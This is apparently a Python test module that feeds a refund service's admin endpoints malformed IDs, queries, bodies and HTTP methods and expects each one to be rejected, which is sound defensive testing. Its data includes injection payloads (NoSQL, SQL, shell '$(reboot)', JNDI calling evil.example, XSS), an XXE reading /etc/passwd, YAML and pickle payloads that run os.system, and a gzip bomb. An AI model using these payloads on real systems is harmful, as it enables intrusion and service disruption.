"""Invalid requests of an admin: IDs, queries, bodies and methods."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator, Mapping
from typing import Any

from tests.hostile.targets import (
    ANN,
    ANN_S_INTENT,
    COMPLETED,
    FREE,
    PENDING,
    REFUNDED,
    UNKNOWN,
    Case,
)
from tests.hostile.tokens import bearer, valid_token

REFUND = f"/admin/refund/{COMPLETED}"


def cases() -> Iterator[tuple[str, Case]]:
    """Yield each name and case."""
    yield from _purchase_ids()
    yield from _other_ids()
    yield from _queries()
    yield from _bodies()
    yield from _methods()


INVALID_IDS: Mapping[str, str] = {
    "unknown": UNKNOWN,
    "23 digits": COMPLETED[:-1],
    "25 digits": COMPLETED + "0",
    "twelve letters": "abcdefghijkl",
    "not hex": "z" * 24,
    "an operator": '{"$ne":null}',
    "an operator, encoded": "%7B%22%24gt%22%3A%22%22%7D",
    "an operator in brackets": "[$ne]",
    "extended JSON": '{"$oid":"' + COMPLETED + '"}',
    "as in mongosh": f'ObjectId("{COMPLETED}")',
    "a regular expression": ".*",
    "NUL": "%00",
    "NUL after it": COMPLETED + "%00",
    "NUL before it": "%00" + COMPLETED,
    "NULs": "%00" * 24,
    "a space after it": COMPLETED + "%20",
    "a space before it": "%20" + COMPLETED,
    "a line break after it": COMPLETED + "%0a",
    "a header after it": COMPLETED + "%0d%0aX-Injected:%201",
    "not UTF-8": "%ff%fe",
    "an overlong slash": "%c0%ae%c0%ae",
    "half a surrogate pair": "%ed%a0%80",
    "a lone percent": "%",
    "percent and no digits": "%zz",
    "encoded twice": "%2536" + COMPLETED[1:],
    "wide digits": "%EF%BC%96" * 24,
    "Arabic digits": "%D9%A3" * 24,
    "null": "null",
    "undefined": "undefined",
    "NaN": "NaN",
    "true": "true",
    "a JavaScript object": "[object Object]",
    "minus one": "-1",
    "a float": "1e24",
    "SQL": "1'%20OR%20'1'='1",
    "a shell command": "$(reboot)",
    "a template": "%7B%7B7*7%7D%7D",
    "JNDI": "$%7Bjndi:ldap:evil.example%7D",
    "a script": "%3Cscript%3Ealert(1)%3C%3E",
    "a list": f"{COMPLETED},{COMPLETED}",
    "a matrix parameter": f"{COMPLETED};a=1",
    "a payment intent": ANN_S_INTENT,
    "a user's ID": ANN,
    "very long": "6" * 8000,
}


def _purchase_ids() -> Iterator[tuple[str, Case]]:
    for name, purchase in INVALID_IDS.items():
        for method in ("POST", "GET") if name in ("unknown", "NUL after it") else ("POST",):
            case = Case(method, f"/admin/refund/{purchase}", 404, "purchase_not_found", bearer(valid_token()))
            yield f"purchase ID, {method}: {name}", case
    for name, (purchase, code) in {
        "pending": (PENDING, "purchase_not_refundable"),
        "refunded": (REFUNDED, "purchase_not_refundable"),
        "free": (FREE, "payment_intent_missing"),
    }.items():
        yield f"purchase: {name}", Case("POST", f"/admin/refund/{purchase}", 400, code, bearer(valid_token()))
        yield (
            f"purchase, previewed: {name}",
            Case("GET", f"/admin/refund/{purchase}", 400, code, bearer(valid_token())),
        )
    for name, path in {
        "none": "/admin/refund/",
        "a slash after it": f"{REFUND}/",
        "an encoded slash": f"/admin/refund/..%2f{COMPLETED}",
        "two": f"{REFUND}/{COMPLETED}",
        "dots": "/admin/refund/..%2f..%2fwebhook%2frefunds",
        "another case": f"/Admin/Refund/{COMPLETED}",
    }.items():
        yield f"path: {name}", Case("POST", path, 404, None, bearer(valid_token()))


def _other_ids() -> Iterator[tuple[str, Case]]:
    for name in ("an operator", "NUL", "a regular expression", "not UTF-8", "SQL", "very long", "null"):
        refund = Case(
            "GET", f"/admin/refunds/{INVALID_IDS[name]}", 404, "refund_not_found", bearer(valid_token())
        )
        yield f"refund ID: {name}", refund
        status = Case(
            "GET", f"/status/{INVALID_IDS[name]}", 404, "purchase_not_found", bearer(valid_token(ANN))
        )
        yield f"payment intent: {name}", status
    for name, refund_id in {"no number": "pi_1", "two numbers": "pi_1:1:1", "minus": "pi_1:-1"}.items():
        case = Case("GET", f"/admin/refunds/{refund_id}", 404, "refund_not_found", bearer(valid_token()))
        yield f"refund ID: {name}", case
    elsewhere = Case("GET", f"/status/{ANN_S_INTENT}", 404, "purchase_not_found", bearer(valid_token()))
    yield "payment intent: another user's, even for an admin", elsewhere


LONG = "x" * 321
QUERIES: Mapping[str, tuple[str, ...]] = {
    "/admin/all": (
        "status[$ne]=completed",
        "status[]=completed",
        "status=",
        "status=completed&status=pending",
        "status=completed%00",
        "limit=0",
        "limit=-1",
        "limit=101",
        "limit=1e2",
        "limit=0x10",
        "limit=1.0",
        "limit=%2B1",
        "limit=%EF%BC%91",
        "limit=01",
        "limit=%201",
        "limit=NaN",
        "limit=99999999999999999999",
        "limit=true",
        "limit=",
        "limit[]=1",
        "page=0",
        "page=1000001",
        "page=-1",
        f"page=1&after={COMPLETED}",
        "after=x",
        "after=%7B%22$gt%22:%22%22%7D",
        f"after={COMPLETED}%00",
        "user=",
        "user=%00",
        "user=a%0ab",
        f"user={LONG}",
        "user[$regex]=.*",
        "paymentIntent=%00",
        "paymentIntent=%E2%80%AE",
        "from=2024-13-01",
        "from=2024-02-30",
        "from=0000-01-01",
        "from=9999-12-31",
        "from=1969-12-31",
        "from=today",
        "from=1710498600",
        "from=2024-01-01T00:00:00+01:00",
        "from=2024-01-01T00:00:00",
        "from=2024-01-01T25:00:00Z",
        "from=2024-03-02&to=2024-03-01",
        "to=2024-01-01T00:00:00.0000000Z",
        "sort=status",
        "__proto__=1",
        "$where=sleep(1000)",
        "fields=passwordHash",
        "LIMIT=1",
    ),
    "/admin/refunds": (
        "status=completed",
        "needsReview=1",
        "needsReview=True",
        "needsReview=",
        "reason=other",
        "reason=fraudulent%20",
        "bulkRun=..%2Fx",
        "bulkRun=.hidden",
        f"bulkRun={'b' * 65}",
        "bulkRun=",
        "bulkRun[$ne]=x",
        "requestedBy=%00",
        f"requestedBy={LONG}",
        "after=!",
        "after=bm9uZQ",
        "after=%FF",
        "after=OTk5OTk5OTk5OTk5OTk5OSBwaV8xOjE",
        f"after={'A' * 5000}",
        "page=1",
        "_id=pi_1:1",
    ),
    "/admin/refunds/metrics": (
        "from=2000-01-01&to=2024-01-01",
        "from=2024-01-01&to=2024-01-01T00:00:00Z",
        "from=2024-01-01&from=2024-01-02",
        "limit=1",
        "month=2024-03",
    ),
}


def _queries() -> Iterator[tuple[str, Case]]:
    for path, queries in QUERIES.items():
        for query in queries:
            yield (
                f"query: {path}?{query[:60]}",
                Case("GET", f"{path}?{query}", 400, "invalid_request", bearer(valid_token())),
            )


def _bodies() -> Iterator[tuple[str, Case]]:
    for name, body in BODIES.items():
        content = body if isinstance(body, bytes) else json.dumps(body).encode()
        headers = (*bearer(valid_token()), ("Content-Type", "application/json"))
        yield f"body: {name}", Case("POST", REFUND, 400, "invalid_request", headers, content)
    for name, (content_type, content) in OTHER_TYPES.items():
        headers = (*bearer(valid_token()), ("Content-Type", content_type))
        yield f"body: {name}", Case("POST", REFUND, 400, "invalid_request", headers, content)
    gzipped = (*bearer(valid_token()), ("Content-Type", "application/json"), ("Content-Encoding", "gzip"))
    bomb = gzip.compress(b" " * 1_000_000)
    yield "body: a gzip bomb", Case("POST", REFUND, 400, "invalid_request", gzipped, bomb)


# tests/unit/test_inputs.py has the other reasons, notes and invalid JSON.
BODIES: Mapping[str, Any] = {
    "an amount": {"amount": 1},
    "a negative amount": {"amount": -1999},
    "an amount with valid fields": {"reason": "duplicate", "amount": 1999},
    "an unknown field": {"reasn": "duplicate"},
    "a field with a NUL": {"reason\0": "duplicate"},
    "another currency": {"currency": "jpy"},
    "another payment": {"payment_intent": ANN_S_INTENT},
    "another user's ID": {"requestedBy": ANN},
    "a status": {"status": "refunded"},
    "a prototype": {"__proto__": {"admin": True}},
    "an operator": {"$where": "sleep(1000)"},
    "an unknown reason": {"reason": "because"},
    "an operator as reason": {"reason": {"$ne": None}},
    "an operator as note": {"note": {"$oid": COMPLETED}},
    "half a surrogate pair": b'{"note":"\\ud800"}',
    "a list of bodies": [{"reason": "duplicate"}],
    "half a body": b'{"reason":"dupl',
    "deep": b"[" * 8000 + b"]" * 8000,
    "deep in a note": b'{"note":' + b'{"a":' * 3000 + b"1" + b"}" * 3001,
    "a very long number": b'{"amount":' + b"9" * 5000 + b"}",
    "a huge exponent": b'{"note":1e999999}',
    "too large": b" " * 16_385,
    "huge": b'{"note":"' + b"x" * 1_000_000 + b'"}',
}
OTHER_TYPES: Mapping[str, tuple[str, bytes]] = {
    "a form": ("application/x-www-form-urlencoded", b"reason=duplicate"),
    "a form with parts": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n--x--',
    ),
    "XML": ("application/xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    "YAML": ("application/yaml", b"reason: !!python/object/apply:os.system [reboot]"),
    "a pickle": ("application/octet-stream", b"cos\nsystem\n(S'reboot'\ntR."),
    "BSON": ("application/bson", b"\x05\x00\x00\x00\x00"),
}


def _methods() -> Iterator[tuple[str, Case]]:
    for method in ("PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "BREW", "QUERY"):
        yield f"method: {method}", Case(method, REFUND, 405, None, bearer(valid_token()))
    for method, path in (
        ("POST", "/admin/all"),
        ("DELETE", "/admin/all"),
        ("POST", "/admin/refunds"),
        ("DELETE", "/admin/refunds/pi_1:1"),
        ("PUT", "/status/pi_1"),
        ("GET", "/webhook/refunds"),
        ("PUT", "/webhook/refunds"),
        ("POST", "/openapi.json"),
        ("PUT", "/admin/"),
    ):
        yield f"method: {method} {path}", Case(method, path, 405, None, bearer(valid_token()))
    yield "method: OPTIONS", Case("OPTIONS", REFUND, 200, None)
    yield "method: HEAD without a token", Case("HEAD", REFUND, 401, None)
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        headers = (*bearer(valid_token(ANN)), (name, "POST"))
        yield f"method: GET, and {name}", Case("GET", REFUND, 403, "admin_required", headers)
    overridden = Case("GET", "/admin/all?_method=POST", 400, "invalid_request", bearer(valid_token()))
    yield "method: GET, and _method", overridden
